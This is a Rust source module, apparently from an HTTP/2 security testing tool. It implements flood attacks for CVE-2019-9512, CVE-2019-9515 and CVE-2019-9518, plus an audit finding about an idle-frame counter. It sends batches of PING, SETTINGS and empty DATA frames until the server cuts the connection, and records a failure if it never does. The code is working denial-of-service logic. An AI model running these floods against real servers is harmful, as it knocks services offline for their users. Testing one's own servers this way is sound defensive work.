//! Frames that say nothing, as fast as the server takes them.

use std::sync::Arc;

use super::http2;
use crate::attack::{Attack, Outcome, Round, Target};
use crate::peer::Peer;
use crate::wire;

/// CVE-2019-9512.
pub(super) const PING_FLOOD: Attack = Attack::new(
    "ping-flood",
    "CVE-2019-9512",
    "pings without end",
    |target| Box::pin(flood(target, pings)),
);

/// The audit's low finding: an octet of data sets the count of idle frames back.
pub(super) const OCTET_THEN_PINGS: Attack = Attack::new(
    "octet-then-pings",
    "low: idle counter",
    "an octet of data, then pings, again and again",
    |target| Box::pin(flood(target, octets)),
);

/// CVE-2019-9515.
pub(super) const SETTINGS_FLOOD: Attack = Attack::new(
    "settings-flood",
    "CVE-2019-9515",
    "settings without end, each of which wants an answer",
    |target| Box::pin(flood(target, settings)),
);

/// CVE-2019-9518.
pub(super) const EMPTY_FRAMES: Attack = Attack::new(
    "empty-frames",
    "CVE-2019-9518",
    "data frames of no octets on an open stream",
    |target| Box::pin(flood(target, empties)),
);

/// Frames that go out together.
const TOGETHER: usize = 500;

/// The frames of a kind that go out together, for an open stream.
type Frames = fn(u32) -> Vec<u8>;

async fn flood(target: Arc<Target>, frames: Frames) -> anyhow::Result<Outcome> {
    let mut outcome = Outcome::default();
    target
        .again(&mut outcome, |_| async {
            let mut peer = http2(&target).await?;
            let stream = peer.call(&wire::ads()).await?;
            let out = frames(stream);
            // What is sent counts if the server ends it.
            let sent = until_over(&target, &mut peer, &out).await;
            Ok(Round { sent, refused: 1 })
        })
        .await;
    if outcome.refused == 0 {
        outcome.broke("a connection may send as many as it likes");
    }
    Ok(outcome)
}

async fn until_over(target: &Target, peer: &mut Peer, out: &[u8]) -> u64 {
    let mut sent = 0;
    while target.goes_on() && !peer.told.is_over() && peer.send(out).await.is_ok() {
        sent += TOGETHER as u64;
        // Others of this process have a turn.
        tokio::task::yield_now().await;
    }
    sent
}

fn pings(_: u32) -> Vec<u8> {
    wire::frame(wire::PING, 0, 0, &[0; 8]).repeat(TOGETHER)
}

fn octets(stream: u32) -> Vec<u8> {
    // Less than a connection's window in all would end it; the first octets of a message are kept.
    let mut out = wire::frame(wire::DATA, 0, stream, &[0]);
    out.extend(wire::frame(wire::PING, 0, 0, &[0; 8]).repeat(TOGETHER - 1));
    out
}

fn settings(_: u32) -> Vec<u8> {
    wire::frame(wire::SETTINGS, 0, 0, &[]).repeat(TOGETHER)
}

fn empties(stream: u32) -> Vec<u8> {
    wire::frame(wire::DATA, 0, stream, &[]).repeat(TOGETHER)
}
